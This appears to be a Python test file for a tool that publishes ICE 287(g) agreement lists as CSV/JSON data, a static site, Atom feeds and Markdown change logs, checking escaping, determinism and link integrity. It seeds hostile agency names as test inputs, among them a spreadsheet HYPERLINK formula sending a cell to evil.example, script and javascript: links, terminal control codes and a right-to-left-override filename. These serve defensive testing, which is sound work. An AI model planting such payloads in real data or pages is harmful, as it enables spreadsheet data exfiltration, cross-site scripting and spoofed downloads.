"""``ice287g publish``: the data package, the site, feeds, escaping and determinism."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.conftest import ROOT, Cli

HEADER: list[object] = [
    "STATE",
    "LAW ENFORCEMENT AGENCY",
    "TYPE",
    "COUNTY",
    "SUPPORT TYPE",
    "SIGNED",
    "MOA",
]
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "<script>alert(1)</script> Police Department",
    "[x](javascript:alert(1)) Sheriff's Office",
    "_x001B_[31mRed_x001B_[0m County Sheriff's Office",  # ESC, as XLSX encodes it
    "Csi \x9b2J County Sheriff's Office",  # a C1 control: CSI
    "www.evil.example https://evil.example/x user@evil.example Police Department",
)
# a link whose target holds a right-to-left override: it shows as ``...x_EXE.PDF``
REORDERING_LINK = "https://www.ice.gov/doclib/x_\u202eFDP.EXE"


def _xlsx(rows: list[list[object]], links: dict[str, str] | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for values in rows:
        sheet.append(values)
    for cell, target in (links or {}).items():
        sheet[cell].hyperlink = target
    for line in sheet.iter_rows():
        for cell in line:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"  # text that looks like a formula, as ICE could type it
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _row(state: str, name: str, model: str, signed: str) -> list[object]:
    return [state, name, "County", "", model, signed, "https://www.ice.gov/doclib/x.pdf"]


@pytest.fixture(scope="module")
def seed_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The seed archive rebuilt and published once for the module."""
    tmp = tmp_path_factory.mktemp("seed")
    seed = Cli(f"sqlite:///{tmp / 'seed.db'}", ROOT / "snapshots" / "archive")
    seed("rebuild")
    out = tmp / "site"
    result = seed("publish", str(out))
    assert "have a county FIPS" in result.stdout
    return out


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two hand-made participating lists whose agency names are attacks."""
    tmp = tmp_path_factory.mktemp("hostile")
    plain = [_row("TX", f"Plain {n} County Sheriff's Office", "JEM", "2025-01-02") for n in "abc"]
    first = [HEADER, *plain, _row("FL", HOSTILE[0], "TFM", "2025-01-03")]
    second = [HEADER, *plain, *[_row("FL", n, "TFM", "2025-03-01") for n in HOSTILE]]
    # a state cell no one can read (its agency listed under ``??``)
    second.append(_row("<b>Q9</b>", "Unplaced Police Department", "TFM", "2025-03-01"))
    links = {f"G{len(second)}": REORDERING_LINK}
    for name, rows in (("a.xlsx", first), ("b.xlsx", second)):
        (tmp / name).write_bytes(_xlsx(rows, links if name == "b.xlsx" else None))
    cli = Cli(f"sqlite:///{tmp / 'h.db'}", tmp / "archive")
    cli("import", str(tmp / "a.xlsx"), "--observed-at", "2025-03-01T10:00:00Z")
    cli("import", str(tmp / "b.xlsx"), "--observed-at", "2025-03-05T10:00:00Z")
    out = tmp / "site"
    cli("publish", str(out))
    return out


def _csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(path.open(encoding="utf-8")))


def test_the_data_package_is_valid_by_frictionless(seed_site: Path) -> None:
    from frictionless import validate

    report = validate(seed_site / "data" / "datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]


def test_every_table_is_written_as_csv_and_json_with_the_same_rows(seed_site: Path) -> None:
    package = json.loads((seed_site / "data" / "datapackage.json").read_text())
    names = {r["name"] for r in package["resources"]}
    assert {"agreements", "events", "daily-counts", "pending-history", "moa-documents"} <= names
    for resource in package["resources"]:
        rows = _csv(seed_site / "data" / resource["path"])
        twin = json.loads((seed_site / "data" / f"{resource['name']}.json").read_text())
        assert len(rows) == len(twin)


def test_every_capture_of_a_list_is_a_row_with_its_verdict_and_what_the_parser_noticed(
    seed_site: Path, tmp_path: Path
) -> None:
    """``snapshots.csv``: one row per list capture of the seed archive; and a capture
    whose rows under a ``Terminated Agreements`` title were skipped says so."""
    seed = _csv(seed_site / "data" / "snapshots.csv")
    assert len(seed) == 30 and {r["verdict"] for r in seed} == {"accepted"}
    assert all(len(r["sha256"]) == 64 and r["list"] in ("participating", "pending") for r in seed)
    rows: list[list[object]] = [
        HEADER,
        _row("TX", "Alpha County Sheriff's Office", "JEM", "2025-01-02"),
        ["Terminated Agreements"],
        _row("TX", "Beta Police Department", "TFM", "2024-01-02"),
    ]
    (tmp_path / "list.xlsx").write_bytes(_xlsx(rows))
    cli = Cli(f"sqlite:///{tmp_path / 'db.sqlite'}", tmp_path / "archive")
    cli("import", str(tmp_path / "list.xlsx"), "--observed-at", "2025-03-01T10:00:00Z")
    cli("publish", str(tmp_path / "site"))
    (row,) = _csv(tmp_path / "site" / "data" / "snapshots.csv")
    assert (row["list"], row["verdict"], row["rows"]) == ("participating", "accepted", "1")
    assert "row 4 skipped: under the title 'Terminated Agreements'" in row["parser_notes"]


def test_every_agreement_row_carries_stable_ids_and_state_fips(seed_site: Path) -> None:
    rows = _csv(seed_site / "data" / "agreements.csv")
    assert rows and all(r["agency_id"] and r["agreement_id"] for r in rows)
    assert all(len(r["state_fips"]) == 2 for r in rows)
    located = [r for r in rows if r["county_fips"]]
    assert located and all(r["county_fips"].startswith(r["state_fips"]) for r in located)


def test_a_county_agency_without_a_county_cell_is_placed_by_its_name() -> None:
    from common.geo import county_fips

    assert county_fips("AL", "Etowah County", None) == "01055"
    assert county_fips("LA", None, "Orleans Parish Sheriff's Office") == "22071"
    assert county_fips("FL", None, "Juno Beach Police Department") is None
    assert county_fips("ZZ", "Etowah County", None) is None


def test_a_county_written_with_a_space_more_or_without_accents_is_placed() -> None:
    """``De Soto County`` is the Census's ``DeSoto County``, ``La Salle`` its ``LaSalle``
    and ``Dona Ana`` its ``Doña Ana``; a cell of many words is no county (no variant of
    it is tried)."""
    from common.geo import county_fips

    assert county_fips("FL", "De Soto County", None) == county_fips("FL", "DeSoto", None)
    assert county_fips("FL", None, "De Soto County Sheriff's Office") == "12027"
    assert county_fips("IL", "La Salle County", None) == "17099"
    assert county_fips("NM", "Dona Ana County", None) == "35013"
    assert county_fips("FL", "De " * 5000 + "Soto County", None) is None


def test_formula_cells_are_neutralised_in_csv_and_kept_in_json(hostile_site: Path) -> None:
    rows = _csv(hostile_site / "data" / "current-participating.csv")
    agencies = {r["agency"] for r in rows}
    assert "'" + HOSTILE[0] in agencies and HOSTILE[0] not in agencies
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    twin = json.loads((hostile_site / "data" / "current-participating.json").read_text())
    assert HOSTILE[0] in {r["agency"] for r in twin}


def test_escaping_helpers_neutralise_each_output() -> None:
    from ice287g.escape import for_csv_cell, for_markdown, for_terminal, for_xml, safe_url

    assert for_csv_cell("=1+1") == "'=1+1" and for_csv_cell("Plain") == "Plain"
    assert for_csv_cell("\tx") == "'\tx" and for_csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert for_markdown("[x](javascript:alert(1))") == r"\[x\]\(javascript\:alert\(1\)\)"
    assert for_markdown("<b>a_b</b>") == r"\<b\>a\_b\</b\>"
    assert for_markdown("# Title\nnext") == r"\# Title\nnext"  # a break shown, not lost
    assert for_markdown("1. St. Lucie") == r"1\. St. Lucie"
    assert "\x1b" not in for_terminal("\x1b[31mred") and for_terminal("a\nb") == "a\\nb"
    assert for_xml("a\x00b\x1bc\x9b\ufffe") == r"a\x00b\x1bc\x9b"
    assert safe_url("javascript:alert(1)") is None and safe_url("data:text/html,x") is None
    assert safe_url("https://www.ice.gov/x.pdf") == "https://www.ice.gov/x.pdf"


def test_a_cell_a_spreadsheet_may_trim_or_fold_into_a_formula_is_neutralised() -> None:
    from ice287g.escape import for_csv_cell

    for value in (" =1+1", "\u3000=1+1", "\uff1d1+1", " \uff20SUM(1)", "\uff0b1", "\n-1"):
        assert for_csv_cell(value).startswith("'"), value
    for value in ("St. Mary's", "1 = 1", "Plain - Police", ""):
        assert for_csv_cell(value) == value


def test_an_invisible_character_is_shown_as_its_code_and_escaped_in_json() -> None:
    from ice287g.escape import for_json, for_markdown, for_terminal, for_xml, safe_url

    link = "https://www.ice.gov/doclib/x_\u202eFDP.EXE"
    for escape in (for_terminal, for_xml, for_markdown):
        shown = escape(link)
        assert "\u202e" not in shown and r"\u202e" in shown, escape
    text = json.dumps({"moa": link, "csi": "\x9b", "tag": "\U000e0041"}, ensure_ascii=False)
    assert json.loads(for_json(text)) == json.loads(text)
    assert not {"\u202e", "\x9b", "\U000e0041"} & set(for_json(text))
    assert safe_url(link) is None  # shown as text, never linked


def test_markdown_of_an_address_is_code_and_of_a_link_is_text() -> None:
    from ice287g.escape import for_markdown

    assert for_markdown("user@evil.example Police") == "`user@evil.example Police`"
    assert for_markdown("a`b@c.d`") == "`` a`b@c.d` ``"
    assert for_markdown("www.evil.example") == r"www\.evil.example"
    assert for_markdown("https://evil.example") == r"https\://evil.example"


def test_a_second_publish_with_nothing_new_rewrites_nothing(
    seed_site: Path, tmp_path: Path
) -> None:
    before = _files_with_mtimes(seed_site)
    seed = Cli(f"sqlite:///{seed_site.parent / 'seed.db'}", ROOT / "snapshots" / "archive")
    result = seed("publish", str(seed_site))
    assert " 0 files written" in result.stdout and " 0 removed" in result.stdout
    assert _files_with_mtimes(seed_site) == before


def test_a_capture_that_changes_nothing_rewrites_only_the_front_page_data_and_charts(
    tmp_path: Path,
) -> None:
    """A site kept in git churns with what changed, not with each capture: an agency's
    or a state's page says a listed agreement is still listed (not the day it was last
    seen) and leaves the data's date to the front page (947 of 1,199 corpus files were
    rewritten by a capture changing nothing)."""
    rows = [_row("TX", f"Plain {n} County Sheriff's Office", "JEM", "2025-01-02") for n in "ab"]
    (tmp_path / "a.xlsx").write_bytes(_xlsx([HEADER, *rows]))
    cli = Cli(f"sqlite:///{tmp_path / 'c.db'}", tmp_path / "archive")
    cli("import", str(tmp_path / "a.xlsx"), "--observed-at", "2025-03-01T10:00:00Z")
    cli("publish", str(tmp_path / "site"))
    before = _files_with_mtimes(tmp_path / "site")
    cli("import", str(tmp_path / "a.xlsx"), "--observed-at", "2025-03-05T10:00:00Z")
    cli("publish", str(tmp_path / "site"))
    after = _files_with_mtimes(tmp_path / "site")
    changed = {str(p.relative_to(tmp_path / "site")) for p in after if after[p] != before.get(p)}
    # the series over time (the charts, a state's chart and its table of days) go on
    series = {"charts/models.svg", "charts/state-TX.svg", "states/TX.html"}
    data = {f"data/{n}" for n in ("agreements.csv", "agreements.json", "datapackage.json")}
    data |= {f"data/{n}.{x}" for n in ("daily-counts", "snapshots") for x in ("csv", "json")}
    assert changed == {"index.html", "data.html", *series, *data}, sorted(changed)
    page = (tmp_path / "site" / "agencies" / "tx-plain-a-county-sheriff-office.html").read_text()
    assert "still listed" in page


def _files_with_mtimes(root: Path) -> dict[Path, tuple[int, bytes]]:
    return {p: (p.stat().st_mtime_ns, p.read_bytes()) for p in root.rglob("*") if p.is_file()}


def test_a_rebuilt_database_publishes_byte_identical_files(seed_site: Path, tmp_path: Path) -> None:
    again = Cli(f"sqlite:///{tmp_path / 'again.db'}", ROOT / "snapshots" / "archive")
    again("rebuild")
    again("publish", str(tmp_path / "site"))
    first = {p.relative_to(seed_site): p.read_bytes() for p in seed_site.rglob("*") if p.is_file()}
    second = {
        p.relative_to(tmp_path / "site"): p.read_bytes()
        for p in (tmp_path / "site").rglob("*")
        if p.is_file()
    }
    assert first.keys() == second.keys()
    assert [k for k in first if first[k] != second[k]] == []


ATOM = "{http://www.w3.org/2005/Atom}"


def test_every_feed_is_atom_with_the_required_elements(seed_site: Path) -> None:
    import xml.etree.ElementTree as ET

    feeds = sorted((seed_site / "feeds").glob("*.xml"))
    names = {f.name for f in feeds}
    assert {"all.xml", "model-JEM.xml", "model-TFM.xml", "model-WSO.xml", "state-FL.xml"} <= names
    for path in feeds:
        root = ET.parse(path).getroot()
        assert root.tag == f"{ATOM}feed"
        for tag in ("id", "title", "updated"):
            assert (root.findtext(f"{ATOM}{tag}") or "").strip(), (path.name, tag)
        assert root.find(f"{ATOM}author/{ATOM}name") is not None
        entries = root.findall(f"{ATOM}entry")
        assert entries, path.name
        for entry in entries:
            for tag in ("id", "title", "updated"):
                assert (entry.findtext(f"{ATOM}{tag}") or "").strip(), (path.name, tag)
            link = entry.find(f"{ATOM}link")
            assert link is not None
            target = (path.parent / link.get("href", "").split("#")[0]).resolve()
            assert target.is_file(), link.get("href")


def test_the_feed_of_all_events_holds_each_event_once_dated_by_its_capture(
    seed_site: Path,
) -> None:
    """Each entry is published when the capture first showing its change was observed
    and updated when the capture recording it was (a withdrawal, once its absence
    persisted: before, it was dated by its window alone, and a reader skipping entries
    older than its last look never saw it), newest recorded first."""
    import xml.etree.ElementTree as ET

    events = json.loads((seed_site / "data" / "events.json").read_text())
    root = ET.parse(seed_site / "feeds" / "all.xml").getroot()
    entries = root.findall(f"{ATOM}entry")
    ids = [e.findtext(f"{ATOM}id") or "" for e in entries]
    assert sorted(ids) == sorted(f"urn:ice287g:event:{e['id']}" for e in events)
    assert root.findtext(f"{ATOM}updated") == max(e["recorded_at"] for e in events)
    by_id = {f"urn:ice287g:event:{e['id']}": e for e in events}
    dated = [
        (
            by_id[e.findtext(f"{ATOM}id") or ""],
            e.findtext(f"{ATOM}updated"),
            e.findtext(f"{ATOM}published"),
        )
        for e in entries
    ]
    assert all((e["recorded_at"], e["window_end"]) == (up, pub) for e, up, pub in dated)
    assert any(e["recorded_at"] > e["window_end"] for e, _, _ in dated)
    updated = [up or "" for _, up, _ in dated]
    assert updated == sorted(updated, reverse=True)


def test_every_feed_entry_links_to_its_event_s_own_anchor(seed_site: Path) -> None:
    """An entry links to its event's item (an agency's page, or for an event of no
    agency the month's change log), so every event has a link to cite."""
    import xml.etree.ElementTree as ET

    root = ET.parse(seed_site / "feeds" / "all.xml").getroot()
    pages: dict[str, str] = {}
    months = 0
    for entry in root.findall(f"{ATOM}entry"):
        event_id = (entry.findtext(f"{ATOM}id") or "").rsplit(":", 1)[-1]
        href = entry.find(f"{ATOM}link[@rel='alternate']").get("href")  # type: ignore[union-attr]
        path, _, fragment = str(href).partition("#")
        page = pages.setdefault(path, (seed_site / "feeds" / path).read_text(encoding="utf-8"))
        assert fragment == f"event-{event_id}" and f'id="{fragment}"' in page, href
        months += path.startswith("../changes/")
    assert months  # events of no agency (a rejected list, a schema change)


def test_each_month_is_a_page_and_the_change_log_in_markdown(
    seed_site: Path, tmp_path: Path
) -> None:
    months = sorted(p.stem for p in (seed_site / "changes").glob("*.md"))
    assert months and all((seed_site / "changes" / f"{m}.html").is_file() for m in months)
    seed = Cli(f"sqlite:///{seed_site.parent / 'seed.db'}", ROOT / "snapshots" / "archive")
    month = months[-1]
    cli_md = seed("changes", "--since", f"{month}-01", "--until", f"{month}-31", "--format", "md")
    page = (seed_site / "changes" / f"{month}.md").read_text()
    assert page.split("\n", 1)[1] == cli_md.stdout.split("\n", 1)[1]


def test_an_event_cited_by_its_earlier_id_is_found_on_its_agency_s_page(seed_site: Path) -> None:
    """Ids changed once (thirty-sixth session: the change and its occurrence, not the
    window): each event's item keeps an anchor of its earlier id, so a link cited
    before still finds it (``f4054755c45ebc87``: Alachua's agreement added, session 35)."""
    page = (seed_site / "agencies" / "fl-alachua-county-sheriff-office.html").read_text()
    assert 'id="event-f4054755c45ebc87"' in page


def test_every_agency_has_a_page_and_events_link_to_the_archived_files(seed_site: Path) -> None:
    agencies = {r["agency_id"] for r in _csv(seed_site / "data" / "agreements.csv")}
    pages = {p.stem for p in (seed_site / "agencies").glob("*.html")}
    assert agencies <= pages
    page = (seed_site / "agencies" / "fl-alachua-county-sheriff-office.html").read_text()
    proofs = re.findall(r'href="\.\./(files/[0-9a-f]{64}\.xlsx)"', page)
    assert proofs and all((seed_site / p).is_file() for p in proofs)


def test_an_archived_ice_page_is_published_as_text_its_scripts_never_run(
    tmp_path: Path,
) -> None:
    """A legacy list (an ICE page, scripts and all) proves its events byte for byte, as a
    file a browser shows as text, never as a page of the site's own origin."""
    page = (ROOT / "tests" / "cases" / "html" / "may2024_plain.html").read_bytes()
    (tmp_path / "287g.html").write_bytes(page)
    cli = Cli(f"sqlite:///{tmp_path / 'h.db'}", tmp_path / "archive")
    cli("import", str(tmp_path / "287g.html"), "--observed-at", "2024-05-10T12:00:00Z")
    cli("publish", str(tmp_path / "site"))
    files = sorted((tmp_path / "site" / "files").iterdir())
    assert [f.name.endswith(".html.txt") for f in files] == [True]
    assert files[0].read_bytes() == page and b"<script" in page
    linked = "".join(p.read_text() for p in (tmp_path / "site" / "agencies").glob("*.html"))
    assert f'href="../files/{files[0].name}"' in linked


def test_the_front_page_shows_the_lists_charts_map_and_latest_changes(seed_site: Path) -> None:
    page = (seed_site / "index.html").read_text()
    for chart in ("models", "flows", "map"):
        assert f'src="charts/{chart}.svg"' in page
        assert (seed_site / "charts" / f"{chart}.svg").read_text().startswith("<svg")
    assert "The lists as they stand" in page and "Latest changes" in page
    assert page.count("<details>") == 3  # the numbers behind each chart


def test_hostile_names_are_escaped_in_html_markdown_and_feeds(hostile_site: Path) -> None:
    import xml.etree.ElementTree as ET

    texts = {
        p: p.read_text(encoding="utf-8")
        for p in hostile_site.rglob("*")
        if p.suffix in (".html", ".md", ".xml", ".csv")
    }
    for path, text in texts.items():
        assert "<script>alert" not in text or path.suffix == ".csv", path
        assert "\x1b" not in text or path.suffix == ".csv", path  # CSV keeps the value
        if path.suffix == ".html":
            assert 'href="javascript' not in text.lower(), path
        if path.suffix == ".xml":
            ET.fromstring(text)
    md = "".join(t for p, t in texts.items() if p.suffix == ".md")
    assert r"\[x\]\(javascript\:alert\(1\)\)" in md and "](javascript" not in md
    html = "".join(t for p, t in texts.items() if p.suffix == ".html")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_no_control_or_invisible_character_reaches_a_page_feed_or_file_raw(
    hostile_site: Path,
) -> None:
    """A C1 control (CSI) and a right-to-left override (in a link's target) are shown as
    their codes in every page, feed and Markdown file, and escaped in the JSON files,
    which read back as the values."""
    import xml.etree.ElementTree as ET

    for path in hostile_site.rglob("*"):
        if path.suffix in (".html", ".md", ".xml", ".json", ".csv", ".svg"):
            text = path.read_text(encoding="utf-8")
            assert "\x9b" not in text and "\u202e" not in text, path
            if path.suffix in (".xml", ".svg"):
                ET.fromstring(text)
    html = "".join(p.read_text(encoding="utf-8") for p in hostile_site.rglob("*.html"))
    assert r"Csi \x9b2J County" in html
    rows = _csv(hostile_site / "data" / "current-participating.csv")
    assert r"https://www.ice.gov/doclib/x_\u202eFDP.EXE" in {r["moa_url"] for r in rows}
    rows = json.loads((hostile_site / "data" / "current-participating.json").read_text())
    assert REORDERING_LINK in {r["moa_url"] for r in rows}


def test_the_change_log_in_markdown_links_nothing_on_github(hostile_site: Path) -> None:
    """Rendered by GitHub's own renderer (cmark-gfm, its autolinks on), as a change log
    kept in a repository is: no link, image or markup from a value; an address and a
    bare ``www.`` or ``https://`` text included."""
    import cmarkgfm
    from cmarkgfm.cmark import Options

    for path in hostile_site.rglob("*.md"):
        html = cmarkgfm.github_flavored_markdown_to_html(
            path.read_text(encoding="utf-8"), options=Options.CMARK_OPT_UNSAFE
        )
        assert "<a " not in html and "<img" not in html and "<script" not in html, path
    month = (hostile_site / "changes" / "2025-03.md").read_text(encoding="utf-8")
    rendered = cmarkgfm.github_flavored_markdown_to_html(month)
    assert "www.evil.example https://evil.example/x user@evil.example" in rendered


def test_a_state_no_one_can_read_has_its_page_and_feed_linked(hostile_site: Path) -> None:
    assert _broken_links(hostile_site) == []
    states = (hostile_site / "states" / "index.html").read_text(encoding="utf-8")
    assert 'href="??.html"' not in states and "state-??.xml" not in states


def test_every_internal_link_and_asset_of_the_site_resolves(seed_site: Path) -> None:
    assert _broken_links(seed_site, at_least=1000) == []


def _broken_links(site: Path, at_least: int = 1) -> list[tuple[str, str]]:
    """A crawler over the output folder: every href and src of every page that is not
    an absolute URL names a file of the folder (and an #anchor an id of that page)."""
    from html.parser import HTMLParser
    from urllib.parse import unquote, urldefrag

    class Links(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.links: list[str] = []
            self.ids: set[str] = set()

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            for name, value in attrs:
                if name in ("href", "src") and value:
                    self.links.append(value)
                if name == "id" and value:
                    self.ids.add(value)

    pages: dict[Path, Links] = {}
    for page in site.rglob("*.html"):
        parser = Links()
        parser.feed(page.read_text(encoding="utf-8"))
        pages[page.resolve()] = parser
    broken, checked = [], 0
    for page, parser in pages.items():
        for link in parser.links:
            if link.startswith(("http://", "https://", "mailto:")):
                continue
            path, anchor = urldefrag(link)
            target = (page.parent / unquote(path)).resolve() if path else page
            checked += 1
            inside = target.is_file() and target.is_relative_to(site.resolve())
            missing_anchor = bool(anchor) and target in pages and anchor not in pages[target].ids
            if not inside or missing_anchor:
                broken.append((page.name, link))
    assert checked >= at_least
    return broken


def _data_with(observed: dict[str, str], newest: str) -> Any:
    from ice287g.publish.model import ListState, PublishData

    snapshots = {
        f"{kind}-1": {"id": f"{kind}-1", "observed_at": at, "kind": kind, "sha256": kind}
        for kind, at in observed.items()
    }
    snapshots["page"] = {"id": "page", "observed_at": newest, "kind": "page", "sha256": "p"}
    lists = {
        kind: ListState(kind, (), observed.get(kind), f"{kind}-1", kind)
        for kind in ("participating", "pending")
    }
    return PublishData({}, (), (), (), lists, snapshots, (), {}, (), {})


def test_a_list_not_captured_in_the_week_before_the_newest_observation_is_stale() -> None:
    from ice287g.publish.site import _list_summary

    data = _data_with(
        {"participating": "2025-05-01T10:00:00Z", "pending": "2025-05-09T10:00:00Z"},
        newest="2025-05-09T12:00:00Z",
    )
    assert _list_summary(data, "participating")["stale"] is True
    assert _list_summary(data, "pending")["stale"] is False
    assert _list_summary(data, "pending")["published"] == "2025-05-09T10:00:00Z"


CHART_IN_A_ZONE = """
import hashlib, re
from ice287g.publish.charts import models_over_time
days = ("2025-02-21", "2025-03-01")
daily = [{"date": d, "JEM": 1, "TFM": 2, "WSO": 3, "total": 6} for d in days]
svg = models_over_time("m", "t", daily).svg
print(hashlib.sha256(svg.encode()).hexdigest(), re.findall(r"date of capture: [^;]*", svg)[0])
"""


def test_a_chart_of_the_lists_is_drawn_in_utc_whatever_the_host_s_time_zone() -> None:
    """The dates of a chart are the data's (UTC), never the host's: on a host in New
    York every chart said each capture a day early (a date is midnight UTC, the evening
    before there), and the files differed from a host's in UTC."""
    drawn = {
        subprocess.run(
            [sys.executable, "-c", CHART_IN_A_ZONE],
            env={**os.environ, "TZ": zone},
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for zone in ("UTC", "America/New_York", "Asia/Tokyo")
    }
    assert len(drawn) == 1 and "date of capture: Feb 21, 2025" in drawn.pop()


def test_an_archived_file_altered_or_lost_is_not_published_as_evidence(tmp_path: Path) -> None:
    """Evidence is published under its sha256: a file whose bytes no longer have it
    (altered in the archive) was copied as it was (helper 46); now it is left out and
    named, and so is one lost from the archive."""
    import hashlib

    rows = [HEADER, _row("TX", "Alpha County Sheriff's Office", "JEM", "2025-01-02")]
    (tmp_path / "list.xlsx").write_bytes(_xlsx(rows))
    cli = Cli(f"sqlite:///{tmp_path / 'db.sqlite'}", tmp_path / "archive")
    cli("import", str(tmp_path / "list.xlsx"), "--observed-at", "2025-03-01T10:00:00Z")
    sha = hashlib.sha256((tmp_path / "list.xlsx").read_bytes()).hexdigest()
    [stored] = [p for p in (tmp_path / "archive").rglob(f"{sha}*") if p.is_file()]
    stored.write_bytes(stored.read_bytes() + b"altered")
    result = cli("publish", str(tmp_path / "site"))
    assert f"archive object {sha} is missing or no longer has that hash" in result.stderr
    assert not list((tmp_path / "site" / "files").glob(f"{sha}*"))


UNKNOWN_COLUMN = "WHATEVER"  # a column no parser knows: a parser note on the capture


@pytest.fixture(scope="module")
def upgraded_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Cli]:
    """A list with a parser note, then a file no parser can read (its list unknown:
    rejected), published after a parser upgrade (the parse cache of another version,
    the history not yet derived again)."""
    import sqlite3

    tmp = tmp_path_factory.mktemp("upgraded")
    header = [*HEADER, UNKNOWN_COLUMN]
    rows = [
        [*_row("TX", f"Plain {n} County Sheriff's Office", "JEM", "2025-01-02"), "x"] for n in "ab"
    ]
    (tmp / "a.xlsx").write_bytes(_xlsx([header, *rows]))
    (tmp / "broken.xlsx").write_bytes(b"PK\x03\x04 no workbook")
    cli = Cli(f"sqlite:///{tmp / 'u.db'}", tmp / "archive")
    cli("import", str(tmp / "a.xlsx"), "--observed-at", "2025-03-01T10:00:00Z")
    cli("import", str(tmp / "broken.xlsx"), "--observed-at", "2025-03-06T10:00:00Z")
    with sqlite3.connect(tmp / "u.db") as db:  # what a bump of parsers/versions.py LISTS does
        db.execute("UPDATE parsed_listings SET parser_version = 'older'")
    out = tmp / "site"
    cli("publish", str(out))
    return out, cli


def test_after_a_parser_upgrade_the_notes_the_history_was_derived_with_are_published(
    upgraded_site: tuple[Path, Cli],
) -> None:
    """The notes were read from the parse cache of the installed parsers' version only:
    after every upgrade ``publish`` emptied every capture's parser notes (45 of 314 in
    the corpus), though it publishes the history as it stands."""
    site, _ = upgraded_site
    [listed] = [r for r in _csv(site / "data" / "snapshots.csv") if r["name"] == "a.xlsx"]
    assert f"unknown column '{UNKNOWN_COLUMN}'" in listed["parser_notes"]


def test_a_capture_whose_list_is_unknown_has_its_row_in_the_published_snapshots(
    upgraded_site: tuple[Path, Cli],
) -> None:
    """One row per capture: a file no parser could read (its list unknown) was left out,
    though its ``snapshot.rejected`` event cites it."""
    site, _ = upgraded_site
    rows = {r["name"]: r for r in _csv(site / "data" / "snapshots.csv")}
    assert set(rows) == {"a.xlsx", "broken.xlsx"}
    assert rows["broken.xlsx"]["list"] == "" and rows["broken.xlsx"]["verdict"] == "rejected"
    events = json.loads((site / "data" / "events.json").read_text())
    [rejected] = [e for e in events if e["kind"] == "snapshot.rejected"]
    assert rejected["evidence_sha256"] == rows["broken.xlsx"]["sha256"]


def test_a_rejected_capture_is_dated_as_captured_not_as_listed_when_records_begin(
    upgraded_site: tuple[Path, Cli],
) -> None:
    """A rejection has no window: it was written 'on the list when records begin (T)'
    in the change log, the month pages and the feeds."""
    from ice287g.render import window_text

    site, _ = upgraded_site
    md = (site / "changes" / "2025-03.md").read_text()
    [line] = [line for line in md.splitlines() if "broken.xlsx:" in line]
    assert "captured 2025-03-06T10:00:00Z" in line and "records begin" not in line
    feed = (site / "feeds" / "all.xml").read_text()
    assert "captured 2025-03-06T10:00:00Z" in feed
    assert "records begin (2025-03-06" not in feed
    listed = {"kind": "agreement.added", "window_start": None, "window_end": "T"}
    assert window_text(listed) == "on the list when records begin (T)"
    assert window_text({**listed, "kind": "snapshot.rejected"}) == "captured T"


_ITEM = re.compile(r'<li id="event-([0-9a-f]{16})">(.*?)</li>', re.DOTALL)


def test_every_event_s_anchor_on_its_month_page_links_the_files_that_prove_it(
    upgraded_site: tuple[Path, Cli],
) -> None:
    """An event of no agency (a rejected capture) is anchored on its month page alone,
    which showed no proof: its evidence file was published and linked from nowhere."""
    site, _ = upgraded_site
    events = json.loads((site / "data" / "events.json").read_text())
    items = {}
    for page in (site / "changes").glob("*.html"):
        items.update(dict(_ITEM.findall(page.read_text())))
    assert {e["id"] for e in events} <= set(items)
    for event in events:
        for sha in event["evidence_sha256"].split():
            assert f'href="../files/{sha}' in items[event["id"]], event["kind"]
    [rejected] = [e for e in events if e["kind"] == "snapshot.rejected"]
    assert ">broken.xlsx</a>" in items[rejected["id"]]


def test_one_event_is_named_in_the_singular_in_feeds_and_timelines(
    upgraded_site: tuple[Path, Cli],
) -> None:
    """A feed entry and a timeline item are one event each: they were titled
    'agencies joined: ...', 'snapshots rejected: ...'."""
    site, _ = upgraded_site
    feed = (site / "feeds" / "all.xml").read_text()
    titles = re.findall(r"<title>(.*?)</title>", feed)[1:]
    assert titles and all(
        t.startswith(("agency joined:", "agreement added:", "snapshot rejected:")) for t in titles
    )
    page = (site / "agencies" / "tx-plain-a-county-sheriff-office.html").read_text()
    kinds = set(re.findall(r'<span class="kind">(.*?)</span>', page))
    assert kinds == {"agency joined", "agreement added"}
    from ice287g.render import counted, kind_label

    assert kind_label("agreement.withdrawn") == "agreement withdrawn"
    assert kind_label("agreement.withdrawn", 2) == "agreements withdrawn"
    assert counted(2, "snapshot.rejected") == "2 snapshots rejected"


def test_markdown_and_terminal_cells_show_what_they_cannot_carry_as_its_code() -> None:
    """Markdown deleted control characters (``c\\rd0.pdf`` printed ``cd0.pdf``, a
    line break a space): two different values printed the same; a tab in a table cell
    moved the rest of its row out of its columns."""
    from ice287g.escape import for_markdown, for_terminal
    from ice287g.render import to_table

    assert for_markdown("c\rd0.pdf") == r"c\rd0.pdf" != for_markdown("cd0.pdf")
    assert for_markdown("a\nb") == r"a\nb" != for_markdown("a b")
    assert for_markdown("a\tb\x1bc_d") == r"a\tb\x1bc\_d"
    assert for_markdown("a\u2028b") == r"a\u2028b"
    assert for_markdown("x@y.org\n") == r"`x@y.org\n`"
    assert for_markdown("  two   spaces  ") == "two spaces"  # spaces are spaces
    assert for_terminal("a\tb\rc") == r"a\tb\rc"
    table = to_table([{"name": "a\tb", "n": 1}, {"name": "abcd", "n": 2}], ("name", "n"))
    assert "\t" not in table and r"a\tb" in table
    lines = table.splitlines()
    assert lines[2].index("1") == lines[3].index("2")


def test_two_publications_of_one_folder_take_turns(tmp_path: Path) -> None:
    """A ``publish`` that read the history before a pass's news and wrote after the pass
    had published it took the folder back to the older history (helper 58): one
    publisher of a folder at a time, from its read to its last write."""
    import threading

